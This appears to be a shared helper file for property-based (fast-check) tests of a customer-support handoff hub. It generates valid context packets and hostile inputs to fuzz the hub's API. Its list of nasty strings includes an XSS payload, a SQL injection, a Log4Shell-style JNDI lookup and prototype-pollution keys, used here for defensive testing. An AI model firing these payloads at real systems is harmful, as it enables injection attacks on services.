// Shared pieces of the property tests in test/property/: the run budget and seed, and the hostile
// and valid values they send. Valid values are built to pass the protocol's schemas by
// construction; hostile ones are anything a broken or malicious client could put on the wire.
import { Buffer } from 'node:buffer';
import { Agent, request, type IncomingHttpHeaders } from 'node:http';
import fc from 'fast-check';
import { expect } from 'vitest';
import { ErrorBody, LIMITS, MAX_JSON_DEPTH, type ContextPacket } from '../../shared/protocol/index.ts';

/** Fixed, so a failure reproduces; `FC_SEED=<n>` runs another sequence. */
export const SEED = Number(process.env.FC_SEED ?? 20_261_125);

/** Cases per property file: together at least 10,000 (checked, and printed, by runParameters). */
export const PROPERTY_RUNS = {
  handoffs: 4_400,
  botframework: 2_400,
  socket: 3_600,
  platforms: 2_000,
  routes: 1_500,
} as const;
export const PROPERTY_TOTAL = Object.values(PROPERTY_RUNS).reduce((a, b) => a + b, 0);

/** fast-check's parameters for one file's property, printed so a failing run can be repeated. */
export function runParameters(file: keyof typeof PROPERTY_RUNS): { numRuns: number; seed: number } {
  const numRuns = PROPERTY_RUNS[file];
  expect(PROPERTY_TOTAL, 'the property files run at least 10,000 cases together').toBeGreaterThanOrEqual(10_000);
  console.info(`[fast-check] ${file}: numRuns=${numRuns} seed=${SEED} (all property files: ${PROPERTY_TOTAL} cases; FC_SEED=<n> to vary)`);
  return { numRuns, seed: SEED };
}

// --- hostile values ------------------------------------------------------------------------

const loneSurrogate = fc.integer({ min: 0xd800, max: 0xdfff }).map((c) => String.fromCharCode(c));

/** Strings that have broken parsers, stores and renderers before. */
export const NASTY_STRINGS = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\ud800',
  'x\udfff',
  '\u202eevil',
  '\ufeff',
  '\r\n',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '<img src=x onerror=alert(1)>',
  "'; drop table handoffs; --",
  '${jndi:ldap://example.com/a}',
  '%s%n%x',
  '𝕳𝖊𝖑𝖑𝖔 👩‍👩‍👧‍👦',
  'x'.repeat(LIMITS.shortText),
  'x'.repeat(LIMITS.shortText + 1),
  '𝕏'.repeat(LIMITS.shortText / 2 + 1),
  'x'.repeat(LIMITS.longText + 1),
  // Emoji-heavy: within the limits counted in characters, over them in UTF-16 units (the protocol's measure).
  '😀'.repeat(LIMITS.shortText / 2),
  '😀'.repeat(LIMITS.shortText / 2 + 1),
  '😀'.repeat(LIMITS.longText / 2 + 1),
];

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }) },
  { weight: 1, arbitrary: fc.string({ unit: loneSurrogate, minLength: 1, maxLength: 3 }) },
  { weight: 2, arbitrary: fc.constantFrom(...NASTY_STRINGS) },
);

/** How deep a value nests objects and arrays (0 for a scalar), measured without recursion. */
export function depthOf(root: unknown): number {
  let deepest = 0;
  const stack: Array<[unknown, number]> = [[root, 0]];
  while (stack.length > 0) {
    const [value, depth] = stack.pop()!;
    if (value === null || typeof value !== 'object' || ArrayBuffer.isView(value)) continue;
    deepest = Math.max(deepest, depth + 1);
    for (const child of Object.values(value)) stack.push([child, depth + 1]);
  }
  return deepest;
}

/** How deep JSON text nests (brackets outside strings), counted here independently of the hub. */
export function textDepth(text: string): number {
  let depth = 0;
  let deepest = 0;
  let inString = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (inString) {
      if (c === '\\') i += 1;
      else if (c === '"') inString = false;
    } else if (c === '"') inString = true;
    else if (c === '[' || c === '{') deepest = Math.max(deepest, ++depth);
    else if (c === ']' || c === '}') depth -= 1;
  }
  return deepest;
}

/** Arrays and objects nested `depth` deep around a hostile leaf (U+0000 among them), as JSON text. */
export const deeplyNestedText = (min: number, max: number): fc.Arbitrary<string> =>
  fc.record({ depth: fc.integer({ min, max }), leaf: fc.constantFrom('"\\u0000"', '"x"', '1', '[]', '{}'), objects: fc.boolean() }).map(({ depth, leaf, objects }) =>
    objects ? `${'{"a":'.repeat(depth)}${leaf}${'}'.repeat(depth)}` : `${'['.repeat(depth)}${leaf}${']'.repeat(depth)}`,
  );

const NASTY_NUMBERS = [0, -0, 1, -1, 0.5, 1.5, 2, 100, -1e-9, 1e308, -1e308, Number.MAX_SAFE_INTEGER + 2, 5e-324];

/** Any JSON value (what JSON.parse could give the hub), with hostile strings and numbers. */
export const hostileJson: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: fc.jsonValue({ maxDepth: 3, stringUnit: 'binary' }) },
  { weight: 2, arbitrary: hostileString },
  { weight: 1, arbitrary: fc.constantFrom<unknown>(null, true, false, [], {}, ...NASTY_NUMBERS) },
  // Around the nesting bound, and far past it (shallow enough for socket.io-client's own recursion).
  { weight: 1, arbitrary: deeplyNestedText(MAX_JSON_DEPTH - 2, 2_000).map((text) => JSON.parse(text) as unknown) },
);

/** Keys that a careless merge or lookup turns into prototype pollution. */
export const PROTOTYPE_KEYS = ['__proto__', 'constructor', 'prototype'] as const;

/** Sets an own, enumerable `key` (even `__proto__`), as JSON.parse would. */
export function setOwn(target: Record<string, unknown>, key: string, value: unknown): void {
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });
}

// --- one thing broken -----------------------------------------------------------------------

export const MUTATIONS = ['remove', 'replace', 'oversize', 'addKey', 'wrapInArray', 'stringify'] as const;
export interface Mutation {
  op: (typeof MUTATIONS)[number];
  at: number;
  key: string;
  value: unknown;
}

type Container = Record<string, unknown> | unknown[];

/** Every property and array element of a JSON value, depth first. */
function slots(root: Container): Array<{ parent: Container; key: string | number }> {
  const found: Array<{ parent: Container; key: string | number }> = [];
  const walk = (node: Container) => {
    const keys: Array<string | number> = Array.isArray(node) ? node.map((_, i) => i) : Object.keys(node);
    for (const key of keys) {
      found.push({ parent: node, key });
      const child = (node as Record<string | number, unknown>)[key];
      if (child !== null && typeof child === 'object') walk(child as Container);
    }
  };
  walk(root);
  return found;
}

/** A JSON object with one thing broken (prototype keys become own keys, as JSON.parse makes them). */
export function mutate(valid: object, { op, at, key, value }: Mutation): unknown {
  const root = JSON.parse(JSON.stringify(valid)) as Record<string, unknown>;
  if (op === 'addKey') {
    const objects = [root, ...slots(root).map((s) => (s.parent as Record<string | number, unknown>)[s.key]).filter((v) => v !== null && typeof v === 'object' && !Array.isArray(v))];
    setOwn(objects[at % objects.length] as Record<string, unknown>, key, value);
    return root;
  }
  const all = slots(root);
  const { parent, key: slot } = all[at % all.length]!;
  const current = (parent as Record<string | number, unknown>)[slot];
  const set = (v: unknown) => ((parent as Record<string | number, unknown>)[slot] = v);
  switch (op) {
    case 'remove':
      if (Array.isArray(parent)) parent.splice(slot as number, 1);
      else delete parent[slot as string];
      break;
    case 'replace':
      set(value);
      break;
    case 'oversize':
      set(typeof current === 'string' ? current.padEnd(20_001, 'x') : 'x'.repeat(201));
      break;
    case 'wrapInArray':
      set([current]);
      break;
    case 'stringify':
      set(JSON.stringify(current));
      break;
  }
  return root;
}

export const mutations: fc.Arbitrary<Mutation> = fc.record({
  op: fc.constantFrom(...MUTATIONS),
  at: fc.nat(),
  key: fc.oneof(fc.constantFrom(...PROTOTYPE_KEYS), hostileString),
  value: hostileJson,
});

// A lone UTF-16 surrogate: written without the hub's own pattern, as the standard defines one.
const isLoneSurrogateAt = (text: string, i: number): boolean => {
  const c = text.charCodeAt(i);
  if (c >= 0xd800 && c <= 0xdbff) return !(i + 1 < text.length && text.charCodeAt(i + 1) >= 0xdc00 && text.charCodeAt(i + 1) <= 0xdfff);
  if (c >= 0xdc00 && c <= 0xdfff) return !(i > 0 && text.charCodeAt(i - 1) >= 0xd800 && text.charCodeAt(i - 1) <= 0xdbff);
  return false;
};

/** Text PostgreSQL cannot keep: U+0000, or a lone surrogate (no UTF-8 for it). The hub refuses it. */
export function unstorable(text: string): boolean {
  for (let i = 0; i < text.length; i += 1) if (text.charCodeAt(i) === 0 || isLoneSurrogateAt(text, i)) return true;
  return false;
}

/** Whether any string or key in a JSON value is text the hub refuses to store. */
export function containsUnstorable(value: unknown): boolean {
  let found = false;
  try {
    JSON.stringify(value ?? null, (key, v: unknown) => {
      if (unstorable(key) || (typeof v === 'string' && unstorable(v))) found = true;
      return v;
    });
  } catch {
    // Nested too deep to walk: such a body holds no text anyway (the only deep case here).
  }
  return found;
}

// --- valid values ----------------------------------------------------------------------------

/** Text of min..max UTF-16 units: any code point and the nasty strings, but none the hub refuses to store (U+0000, lone surrogates). */
const text = (max: number, min = 1): fc.Arbitrary<string> =>
  fc
    .oneof(
      { weight: 3, arbitrary: fc.string({ unit: 'binary', minLength: min, maxLength: Math.min(max, 30) }) },
      { weight: 1, arbitrary: fc.string({ unit: 'grapheme', minLength: min, maxLength: Math.min(max, 20) }) },
      { weight: 1, arbitrary: fc.constantFrom(...NASTY_STRINGS) },
    )
    .filter((s) => s.length >= min && s.length <= max && !unstorable(s));

export const shortText = text(LIMITS.shortText);
const longText = text(LIMITS.longText, 0);
export const timestamp = fc
  .tuple(fc.date({ min: new Date('2000-01-01T00:00:00Z'), max: new Date('2099-12-31T00:00:00Z'), noInvalidDate: true }), fc.constantFrom('Z', '+01:00', '-05:30', '+00:00'))
  .map(([date, offset]) => date.toISOString().replace('Z', offset === 'Z' ? 'Z' : offset));
const unit = fc.double({ min: 0, max: 1, noNaN: true });
// Built from parts rather than fc.emailAddress/webUrl: as good for the hub, a fraction of the cost.
const word = fc.string({ unit: fc.constantFrom(...'abcdefghijklmnopqrstuvwxyz0123456789'), minLength: 1, maxLength: 12 });
const email = fc.tuple(word, fc.constantFrom('', '.', '+', '_'), word, word).map(([a, sep, b, domain]) => `${a}${sep}${b}@${domain}.example`);
const url = fc
  .tuple(fc.constantFrom('https', 'http'), word, fc.array(word, { maxLength: 3 }), fc.option(word, { nil: undefined }))
  .map(([scheme, host, path, query]) => `${scheme}://${host}.example.com/${path.join('/')}${query ? `?q=${query}` : ''}`);

/** A ContextPacket that passes the schema (the default team, so the hub takes it). */
export const validPacket: fc.Arbitrary<ContextPacket> = fc.record(
  {
    summary: text(LIMITS.longText),
    trigger: fc.record(
      { reason: fc.constantFrom('complexity', 'emotional_state', 'scope_limitation', 'feature_request', 'bug_report', 'customer_request', 'other'), detail: longText },
      { requiredKeys: ['reason'] },
    ),
    transcript: fc.array(fc.record({ from: fc.constantFrom('customer', 'bot', 'agent', 'system'), text: longText, at: timestamp }), { maxLength: 4 }),
    intent: fc.record({ name: shortText, confidence: unit }, { requiredKeys: ['name'] }),
    sentiment: fc.record({ score: fc.double({ min: -1, max: 1, noNaN: true }), frustration: unit }, { requiredKeys: [] }),
    customer: fc.record(
      { id: shortText, name: shortText, email, tier: shortText, locale: shortText, authenticated: fc.boolean() },
      { requiredKeys: [] },
    ),
    channel: fc.constantFrom('chat', 'voice', 'email', 'sms', 'social', 'other'),
    coreIssue: longText,
    botAttempts: fc.array(fc.record({ step: shortText, outcome: longText }, { requiredKeys: ['step'] }), { maxLength: 3 }),
    priority: fc.constantFrom('low', 'normal', 'high', 'urgent'),
    skills: fc.array(shortText, { maxLength: 3 }),
    team: fc.constant('support'),
    language: shortText,
    source: fc.record({ platform: shortText, conversationId: shortText, conversationUrl: url }, { requiredKeys: ['platform'] }),
    metadata: fc.dictionary(
      shortText.filter((k) => k !== '__proto__'),
      fc.oneof(longText, fc.double({ noNaN: true, noDefaultInfinity: true }), fc.boolean()),
      { maxKeys: 4 },
    ),
  },
  { requiredKeys: ['summary', 'trigger'] },
);

// --- HTTP ------------------------------------------------------------------------------------

export interface RawReply {
  status: number;
  headers: IncomingHttpHeaders;
  text: string;
  /** The body as JSON, or undefined when it is not JSON. */
  json: unknown;
}

// node:http with kept-alive connections: a fraction of fetch's cost per request, which is most of
// what thousands of small cases cost.
const agent = new Agent({ keepAlive: true, maxSockets: 8 });

/**
 * One request, answered as status, headers and body; nothing is set that the caller did not give
 * (but Content-Length). `localAddress` (e.g. 127.0.0.2) makes it come from another loopback address.
 */
export function send(
  url: string,
  { method = 'GET', headers = {}, body, localAddress }: { method?: string; headers?: Record<string, string>; body?: string | Buffer; localAddress?: string } = {},
): Promise<RawReply> {
  return new Promise((resolve, reject) => {
    const payload = body === undefined ? undefined : Buffer.from(body);
    const options = { method, agent, headers: { ...headers, ...(payload && { 'content-length': String(payload.length) }) }, ...(localAddress && { localAddress }) };
    const req = request(url, options, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (chunk: Buffer) => chunks.push(chunk));
      res.on('error', reject);
      res.on('end', () => {
        const text = Buffer.concat(chunks).toString('utf8');
        let json: unknown;
        try {
          json = JSON.parse(text);
        } catch {
          json = undefined;
        }
        resolve({ status: res.statusCode ?? 0, headers: res.headers, text, json });
      });
    });
    req.on('error', reject);
    req.end(payload);
  });
}

/** A 4xx in the protocol's error shape; returns the error. */
export function expectClientError(reply: RawReply, context: string): ErrorBody['error'] {
  expect(reply.status, `${context}\n→ ${reply.status} ${reply.text.slice(0, 500)}`).toBeGreaterThanOrEqual(400);
  expect(reply.status, `${context}\n→ ${reply.status} ${reply.text.slice(0, 500)}`).toBeLessThan(500);
  const parsed = ErrorBody.safeParse(reply.json);
  expect(parsed.success, `${context}\n→ not the error shape: ${reply.text.slice(0, 500)}`).toBe(true);
  return parsed.data!.error;
}

/** Canonical JSON (keys sorted), to compare two packets as the hub's idempotency does. */
export function canonical(value: unknown): string {
  if (Array.isArray(value)) return `[${value.map(canonical).join(',')}]`;
  if (value !== null && typeof value === 'object') {
    return `{${Object.keys(value)
      .sort()
      .map((k) => `${JSON.stringify(k)}:${canonical((value as Record<string, unknown>)[k])}`)
      .join(',')}}`;
  }
  return JSON.stringify(value);
}
